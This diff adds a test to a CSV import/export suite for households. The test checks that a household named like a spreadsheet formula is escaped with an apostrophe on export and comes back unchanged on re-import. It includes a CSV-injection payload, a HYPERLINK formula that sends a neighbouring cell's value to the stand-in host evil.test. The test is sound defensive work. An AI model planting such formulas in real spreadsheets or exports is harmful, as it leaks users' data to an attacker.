@@ -86,6 +86,19 @@ describe("CSV import of households", () => {
     expect(exported.body.csv).toContain("Plaça Major");
   });
 
+  it("exports a household named like a formula as text, and imports it back unchanged", async () => {
+    const name = '=HYPERLINK("http://evil.test/?d="&B2;"Voir")';
+    await app.db.prisma.household.create({ data: { organisationId: world.org.groceryA, name, addressLine: "@chemin", postcode: "23000", city: "Guéret", latitude: 46.17, longitude: -1.87 } });
+    const exported = await coord.get<{ csv: string }>(`/api/exports/households?organisationId=${world.org.groceryA}`);
+    const line = exported.body.csv.split("\r\n").find((l) => l.includes("HYPERLINK"))!;
+    expect(line).toMatch(/^[^;]*;"'=HYPERLINK\(""http:\/\/evil\.test/);
+    expect(line).toContain(";'@chemin;");
+    expect(line).toContain(";-1,87;");
+    const again = await coord.post<ImportResult>("/api/imports/households", { organisationId: world.org.groceryA, csv: exported.body.csv });
+    expect(again.status).toBe(200);
+    expect(await app.db.prisma.household.count({ where: { name, addressLine: "@chemin" } })).toBe(1);
+  });
+
   it("refuses a row naming a halt of another organisation and writes none of the rows", async () => {
     const before = await app.db.prisma.stop.count();
     const ok = await coord.post<ImportResult>("/api/imports/stops", { organisationId: world.org.groceryA, csv: "name,city,latitude,longitude\nLavoir,Ahun,46.08,2.04\n" });
